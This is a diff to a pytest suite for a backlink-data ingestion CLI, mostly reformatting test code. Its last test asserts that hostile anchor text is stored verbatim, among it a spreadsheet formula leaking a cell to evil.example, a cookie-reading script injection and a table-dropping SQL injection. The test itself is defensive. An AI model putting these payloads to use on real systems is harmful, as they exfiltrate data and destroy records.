@@ -78,7 +78,7 @@ EXPECTED: dict[str, tuple[str, str | None]] = {
     "Performance-on-Search-bomb.zip": (REJECTED, "refusing a possible zip bomb"),
     "caf\\xe9_semrush_backlinks.csv": (LOADED, None),  # a Latin-1 name; crashed the whole load
     "zz_copy_of_good.csv": (DUPLICATE, "same bytes as"),  # sorts after its original: the second copy
-    **{name: (LOADED, None) for name in GOOD},
+    **dict.fromkeys(GOOD, (LOADED, None)),
 }
 
 
@@ -111,14 +111,30 @@ def corpus_refresh(tmp_path_factory) -> CliRun:
     _generated(inbox)
     warehouse = base / "warehouse.duckdb"
     proc = run_cli(
-        "refresh", "--inbox", str(inbox), "--warehouse", str(warehouse), "--config", str(SAMPLE_CONFIG),
+        "refresh",
+        "--inbox",
+        str(inbox),
+        "--warehouse",
+        str(warehouse),
+        "--config",
+        str(SAMPLE_CONFIG),
         env={"COLUMNS": "400"},
     )
     return CliRun(proc.returncode, proc.stdout, proc.stderr, warehouse, inbox, SAMPLE_CONFIG)
 
 
 def _audit(run: CliRun) -> dict[str, dict]:
-    columns = ["file_name", "sha256", "status", "error", "rows_read", "rows_loaded", "rows_quarantined", "kind", "snapshot_date_source"]
+    columns = [
+        "file_name",
+        "sha256",
+        "status",
+        "error",
+        "rows_read",
+        "rows_loaded",
+        "rows_quarantined",
+        "kind",
+        "snapshot_date_source",
+    ]
     rows = run.query(f"select {', '.join(columns)} from audit.ingest_files")
     return {row[0]: dict(zip(columns, row, strict=True)) for row in rows}
 
@@ -142,7 +158,9 @@ def test_the_refresh_finishes_with_exit_1_and_publishes_the_good_data(corpus_ref
 def test_every_file_ends_as_expected_with_its_reason(corpus_refresh):
     audit = _audit(corpus_refresh)
     assert set(audit) == set(EXPECTED)  # the hidden lock file is never landed
-    quarantine = dict(corpus_refresh.query("select file_name, string_agg(reason, ' | ') from audit.quarantine group by 1"))
+    quarantine = dict(
+        corpus_refresh.query("select file_name, string_agg(reason, ' | ') from audit.quarantine group by 1")
+    )
     for name, (outcome, phrase) in EXPECTED.items():
         row = audit[name]
         if outcome == PARTIAL:
@@ -190,7 +208,9 @@ def test_quality_checks_pass_on_what_was_landed(corpus_refresh):
 
 
 def test_hostile_text_is_stored_verbatim(corpus_refresh):
-    anchors = dict(corpus_refresh.query("select source_host, anchor from raw.backlinks where source_host like '%.example.%'"))
+    anchors = dict(
+        corpus_refresh.query("select source_host, anchor from raw.backlinks where source_host like '%.example.%'")
+    )
     assert anchors["formula1.example.org"] == '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
     assert anchors["xss1.example.net"] == "<script>alert(document.cookie)</script>"
     assert anchors["sqli.example.org"] == "'); drop table audit.ingest_files; --"
